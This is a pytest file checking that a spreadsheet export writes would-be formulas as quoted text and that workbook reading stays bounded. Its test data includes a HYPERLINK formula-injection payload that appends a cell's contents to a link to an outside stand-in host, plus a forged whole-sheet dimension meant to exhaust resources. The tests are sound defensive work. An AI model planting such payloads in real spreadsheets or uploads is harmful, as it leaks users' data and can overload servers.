"""api/spreadsheets.py: bounded reading, and cells that never become formulas when written."""

from __future__ import annotations

import io
import re
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from api.errors import UserInputError
from api.services.reports.export import save
from api.spreadsheets import Errors, TooManyRows, over_limit, rows

TITLE = '=HYPERLINK("http://example.com"&A1,"点击查看")'


def test_text_that_would_start_a_formula_is_written_as_quoted_text() -> None:
    book = Workbook()
    values = [TITLE, "+1+2", "-3-4", "@SUM(A1)", "\t=1", "普通标题", -5, 3.5]
    book.active.append(values)
    sheet = load_workbook(io.BytesIO(save(book))).active
    cells = [sheet.cell(row=1, column=c) for c in range(1, len(values) + 1)]
    assert [c.value for c in cells] == values  # the text is kept as it was, nothing prepended
    for cell in cells[:5]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert cells[5].data_type == "s" and not cells[5].quotePrefix
    assert [c.data_type for c in cells[6:]] == ["n", "n"]
    assert not any(c.data_type == "f" for c in cells)


def _with_dimension(data: bytes, ref: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref + b'"', content)
            target.writestr(item, content)
    return out.getvalue()


def test_a_declared_dimension_of_the_whole_sheet_is_ignored() -> None:
    book = Workbook()
    book.active.append(["一级事项", "更新频率"])
    book.active.append(["财政预算", "年"])
    out = io.BytesIO()
    book.save(out)
    data = _with_dimension(out.getvalue(), b"A1:XFD1048576")
    assert len(data) < 10_000
    started = time.perf_counter()
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    found = list(rows(sheet, max_columns=64, max_rows=100))
    assert found == [(1, ["一级事项", "更新频率"]), (2, ["财政预算", "年"])]
    assert time.perf_counter() - started < 1
    with pytest.raises(TooManyRows):
        list(rows(load_workbook(io.BytesIO(data), read_only=True).active, max_columns=64, max_rows=1))


def test_elements_are_counted_across_chunks_and_namespace_prefixes() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<sheetData>" + b'<x:row r="1"><c>1</c></x:row>' * 100_000)
        archive.writestr("xl/worksheets/_rels/sheet1.xml.rels", b"<row/>" * 10)
    archive = zipfile.ZipFile(out)
    assert over_limit(archive, "xl/worksheets/sheet", {"row": 100_000, "c": 100_000}) is None
    assert over_limit(archive, "xl/worksheets/sheet", {"row": 99_999}) == "row"
    assert over_limit(archive, "xl/worksheets/", {"row": 100_009}) == "row"


def test_errors_keep_the_first_and_count_them_all() -> None:
    errors = Errors(keep=3)
    assert not errors
    for i in range(10):
        errors.add(UserInputError("file", "INVALID_ROW", f"第{i}行"))
    assert errors and errors.count == 10 and [e.message for e in errors.kept] == ["第0行", "第1行", "第2行"]
